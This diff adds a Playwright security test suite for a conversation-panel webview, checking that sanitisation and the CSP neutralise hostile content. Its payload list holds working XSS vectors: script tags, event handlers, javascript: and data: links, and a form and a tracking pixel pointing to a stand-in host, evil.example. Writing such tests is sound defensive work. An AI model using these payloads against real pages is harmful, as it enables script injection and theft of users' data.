@@ -1,0 +1,225 @@
+import assert from 'node:assert/strict';
+import type { Page } from 'playwright-core';
+import { completedQuestion, conversation, failedQuestion, processingQuestion, snapshot, turn } from './fixtures';
+import { usePanelEnvironment } from './panelHarness';
+
+/** Every trick a hostile answer could try; each one that runs pushes its name to `window.__hostile`. */
+const HOSTILE_ANSWER = [
+  'Intro paragraph.',
+  '',
+  '<script>window.__hostile.push("script")</script>',
+  '<img src="x" onerror="window.__hostile.push(\'img-onerror\')">',
+  '<a href="javascript:window.__hostile.push(\'js-href\')">js link</a>',
+  '<a href=" JaVaScRiPt:window.__hostile.push(\'js-href-2\')">js link 2</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
+  '<svg><script>window.__hostile.push("svg-script")</script><circle r="5" onload="window.__hostile.push(\'svg-onload\')"/></svg>',
+  '<math><mi xlink:href="javascript:window.__hostile.push(\'math\')">x</mi></math>',
+  '<iframe src="javascript:parent.__hostile.push(\'iframe\')"></iframe>',
+  '<iframe srcdoc="<script>parent.__hostile.push(\'srcdoc\')</script>"></iframe>',
+  '<object data="javascript:parent.__hostile.push(\'object\')"></object>',
+  '<embed src="javascript:parent.__hostile.push(\'embed\')">',
+  '<form action="https://evil.example/steal"><input name="secret"><button>Go</button></form>',
+  '<p style="background:url(https://evil.example/track.png)">styled paragraph</p>',
+  '<div style="position:fixed;inset:0">overlay</div>',
+  '<style>body { display: none }</style>',
+  '<details open ontoggle="window.__hostile.push(\'ontoggle\')"><summary>s</summary>d</details>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<a href="https://example.com/ok" target="_blank" onclick="window.__hostile.push(\'onclick\')">safe link</a>',
+  '<img src="http://evil.example/pixel.png" alt="plain http pixel"> <img src="https://localhost:9/logo.png" alt="https image">',
+  '',
+  '[markdown js link](javascript:window.__hostile.push("md-js"))',
+  '[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '![markdown image](x"onerror="window.__hostile.push(\'md-img\'))',
+  '',
+  '```html',
+  '<script>shown as code, not run</script>',
+  '```',
+].join('\n');
+
+async function settle(page: Page): Promise<void> {
+  // Let image loads fail and any surviving handler run before looking.
+  await page.evaluate(() =>
+    Promise.all(Array.from(document.images).map((image) => image.decode().catch(() => undefined))).then(() => undefined),
+  );
+  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 100))));
+}
+
+describe('conversation panel: security', function () {
+  this.timeout(30_000);
+  const env = usePanelEnvironment();
+
+  it('sanitises a hostile answer: nothing runs and nothing dangerous reaches the DOM', async () => {
+    const panel = await env.open();
+    const page = panel.page;
+    const requested: string[] = [];
+    page.on('request', (request) => requested.push(request.url()));
+    await page.evaluate(() => {
+      window.__hostile = [];
+    });
+    await panel.send(snapshot(conversation([completedQuestion(1, { answer: HOSTILE_ANSWER })])));
+    await settle(page);
+
+    assert.deepEqual(await page.evaluate(() => window.__hostile), [], 'no hostile script ran');
+    const markdown = page.locator('.answer .markdown');
+    assert.equal(await markdown.locator('script, iframe, object, embed, form, input, button:not(.copy-code), svg, math, style, base, meta, link').count(), 0);
+    const findings = await page.evaluate(() => {
+      const all = Array.from(document.querySelectorAll('*'));
+      return {
+        handlers: all.flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on'))),
+        styled: all.filter((node) => node.hasAttribute('style')).length,
+        targets: all.filter((node) => node.hasAttribute('target')).length,
+        badHrefs: all
+          .flatMap((node) => ['href', 'src', 'xlink:href', 'action', 'data'].map((name) => node.getAttribute(name) ?? ''))
+          .filter((value) => /^\s*(javascript|data|vbscript):/i.test(value)),
+        scripts: document.scripts.length,
+      };
+    });
+    assert.deepEqual(findings.handlers, []);
+    assert.equal(findings.styled, 0, 'no style attribute anywhere');
+    assert.equal(findings.targets, 0);
+    assert.deepEqual(findings.badHrefs, []);
+    assert.equal(findings.scripts, 1, 'only the panel bundle');
+
+    assert.equal(await markdown.locator('a', { hasText: 'safe link' }).getAttribute('href'), 'https://example.com/ok');
+    assert.ok((await markdown.textContent())!.includes('styled paragraph'), 'content survives, its style does not');
+    assert.deepEqual(
+      await markdown.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src'))),
+      [null, null, 'https://localhost:9/logo.png', null],
+      'images load only over https',
+    );
+    assert.match((await markdown.locator('pre code').textContent())!, /<script>shown as code, not run<\/script>/);
+    assert.ok(await page.locator('.question').isVisible(), 'no stylesheet hid the page');
+    assert.deepEqual(requested.filter((url) => url.includes('evil.example')), [], 'nothing hostile was fetched');
+    // DOMPurify parses in an inert document that shares the page's CSP, so Chromium reports the
+    // hostile inline handlers and styles it met there: all blocked, none from the rendered DOM.
+    for (const violation of await panel.cspViolations()) assert.equal(violation.blockedURI, 'inline');
+  });
+
+  it('shows hostile titles, questions, turns, errors and source labels as plain text', async () => {
+    const panel = await env.open();
+    const page = panel.page;
+    await page.evaluate(() => {
+      window.__hostile = [];
+    });
+    const hostile = (name: string) => `<img src=x onerror="window.__hostile.push('${name}')"><b>${name}</b>`;
+    await panel.send(
+      snapshot(
+        conversation([
+          completedQuestion(1, {
+            title: hostile('title'),
+            text: hostile('question'),
+            sources: [{ type: 'File', link: '/github.com/org/repo', label: hostile('source') }],
+            suggestedFollowups: [hostile('followup')],
+          }),
+          failedQuestion(2, { error: { kind: '<i>kind</i>', title: hostile('error-title'), message: hostile('error-message') } }),
+          processingQuestion(3, { turns: [turn(hostile('turn'), 1, '<u>role</u>')] }),
+        ]),
+      ),
+    );
+    await settle(page);
+
+    assert.deepEqual(await page.evaluate(() => window.__hostile), []);
+    assert.equal(await page.locator('.question-list img, .question-list b, .question-list i, .question-list u, .conversation-header img').count(), 0);
+    assert.equal(await page.locator('h1.conversation-title').textContent(), hostile('title'));
+    assert.equal(await page.locator('[data-question-id="1"] .question-text').textContent(), hostile('question'));
+    assert.equal(await page.locator('.source-label').textContent(), hostile('source'));
+    assert.equal(await page.locator('.followup-suggestion .button-label').textContent(), hostile('followup'));
+    assert.equal(await page.locator('.callout-error .callout-title').textContent(), hostile('error-title'));
+    assert.equal(await page.locator('.callout-error .callout-message').textContent(), hostile('error-message'));
+    const liveTurn = page.locator('[data-question-id="3"] .turn');
+    assert.equal(await liveTurn.locator('.turn-text').textContent(), hostile('turn'));
+    assert.equal(await liveTurn.locator('.turn-role').textContent(), '<u>role</u>');
+  });
+
+  it('shows a source with a javascript: or data: link as text, not as a link', async () => {
+    const panel = await env.open();
+    await panel.send(
+      snapshot(
+        conversation([
+          completedQuestion(1, {
+            sources: [
+              { type: 'File', link: 'javascript:alert(1)', label: 'script source' },
+              { type: 'File', link: 'data:text/html,hi', label: 'data source' },
+            ],
+          }),
+        ]),
+      ),
+    );
+    assert.equal(await panel.page.locator('.sources a').count(), 0);
+    assert.deepEqual(await panel.page.locator('.source-label').allTextContents(), ['script source', 'data source']);
+  });
+
+  it('the CSP blocks inline script, whether served in the page or injected later', async () => {
+    const panel = await env.open({ injectInlineScript: true });
+    const page = panel.page;
+    assert.equal(await page.evaluate(() => (window as { __inlineScriptRan?: boolean }).__inlineScriptRan), undefined);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__injectedScriptRan = true;';
+      document.body.append(script);
+      const handler = document.createElement('div');
+      handler.setAttribute('onclick', 'window.__injectedHandlerRan = true');
+      document.body.append(handler);
+      handler.click();
+    });
+    const ran = await page.evaluate(() => {
+      const flags = window as { __injectedScriptRan?: boolean; __injectedHandlerRan?: boolean };
+      return [flags.__injectedScriptRan, flags.__injectedHandlerRan];
+    });
+    assert.deepEqual(ran, [undefined, undefined]);
+    const violations = await panel.cspViolations();
+    assert.ok(violations.filter((violation) => violation.directive.startsWith('script-src')).length >= 3, JSON.stringify(violations));
+    assert.deepEqual(await panel.posted(), [{ type: 'ready' }], 'the nonce’d bundle still runs');
+  });
+
+  it('renders and reacts without a single CSP violation, with its stylesheets and font applied', async () => {
+    const panel = await env.open();
+    const page = panel.page;
+    await panel.send(snapshot(conversation([completedQuestion(1), failedQuestion(2), processingQuestion(3)])));
+    await page.getByRole('button', { name: 'Copy code' }).click();
+    await page.locator('details.turns-finished summary').first().click();
+    await page.evaluate(() => document.fonts.ready.then(() => undefined));
+
+    assert.deepEqual(await panel.cspViolations(), []);
+    assert.deepEqual(panel.pageErrors, []);
+    const applied = await page.evaluate(() => ({
+      background: getComputedStyle(document.body).backgroundColor,
+      codiconFont: getComputedStyle(document.querySelector('.codicon')!).fontFamily,
+      codiconLoaded: document.fonts.check('16px codicon'),
+    }));
+    assert.equal(applied.background, 'rgb(31, 31, 31)', 'panel.css and the theme variables apply');
+    assert.equal(applied.codiconFont, 'codicon');
+    assert.ok(applied.codiconLoaded, 'the codicon font loaded under font-src');
+  });
+
+  it('hands every link click to the host as openLink with the raw href and never navigates', async () => {
+    const panel = await env.open();
+    const page = panel.page;
+    await panel.send(snapshot(conversation([completedQuestion(1)])));
+    await page.evaluate(() => document.fonts.ready.then(() => undefined));
+    const startUrl = page.url();
+    const requestsBefore = env.server.requests.length;
+
+    await page.locator('.markdown a', { hasText: 'poller.ts' }).click();
+    await page.locator('.markdown a', { hasText: 'store' }).click();
+    await page.locator('.sources a', { hasText: 'github.com/org/repo' }).click();
+    await page.locator('.sources a', { hasText: 'src/api/poller.ts' }).click({ button: 'middle' });
+    await page.locator('.sources a', { hasText: 'github.com/org/repo' }).focus();
+    await page.keyboard.press('Enter');
+
+    assert.deepEqual(
+      (await panel.postedOfType('openLink')).map((message) => message.href),
+      [
+        'https://sourcegraph.example.com/github.com/org/repo/-/blob/src/api/poller.ts?L12-30',
+        '/github.com/org/repo/-/blob/src/store.ts',
+        '/github.com/org/repo',
+        '/github.com/org/repo/-/blob/src/api/poller.ts',
+        '/github.com/org/repo',
+      ],
+    );
+    assert.equal(page.url(), startUrl);
+    assert.equal(page.context().pages().length, 1, 'no new window either');
+    assert.deepEqual(env.server.requests.slice(requestsBefore), [], 'the page fetched nothing a link points to');
+  });
+});
